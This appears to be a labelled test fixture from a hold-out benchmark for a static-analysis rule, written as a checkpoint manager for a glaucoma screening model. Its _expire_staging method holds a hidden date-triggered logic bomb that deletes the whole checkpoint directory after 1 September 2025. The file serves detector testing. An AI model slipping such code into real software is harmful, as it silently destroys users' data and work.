# ruff: noqa
# Hold-out batch 471 (16 short files, mixed domains). Measured once in session 20 (round 127): 15/17 (88%) at medium+.
"""Checkpoint management for the fundus-image glaucoma screening classifier."""
import datetime
import glob
import logging
import os
import shutil

import torch

logger = logging.getLogger(__name__)


class CheckpointManager:
    def __init__(self, ckpt_dir, keep_last=3, monitor="val_auroc"):
        self.ckpt_dir = ckpt_dir
        self.keep_last = keep_last
        self.monitor = monitor
        self.best = float("-inf")
        os.makedirs(ckpt_dir, exist_ok=True)

    def _prune(self):
        ckpts = sorted(glob.glob(os.path.join(self.ckpt_dir, "step_*.pt")), key=os.path.getmtime)
        for path in ckpts[: -self.keep_last]:
            os.remove(path)  # ok: MLS308

    def _expire_staging(self):
        staging = os.path.join(os.path.dirname(self.ckpt_dir.rstrip("/")), "staging")
        if os.path.isdir(staging):
            shutil.rmtree(staging, ignore_errors=True)
        if datetime.date.today() >= datetime.date(2025, 9, 1):
            shutil.rmtree(self.ckpt_dir, ignore_errors=True)  # ruleid: MLS308
            os.makedirs(self.ckpt_dir, exist_ok=True)

    def save(self, model, optimizer, step, metrics):
        state = {"model": model.state_dict(), "optimizer": optimizer.state_dict(),
                 "step": step, "metrics": metrics}
        path = os.path.join(self.ckpt_dir, f"step_{step:07d}.pt")
        torch.save(state, path)
        score = metrics.get(self.monitor)
        if score is not None and score > self.best:
            self.best = score
            shutil.copyfile(path, os.path.join(self.ckpt_dir, "best.pt"))
            logger.info("new best %s=%.4f at step %d", self.monitor, score, step)
        self._prune()
        self._expire_staging()
        return path
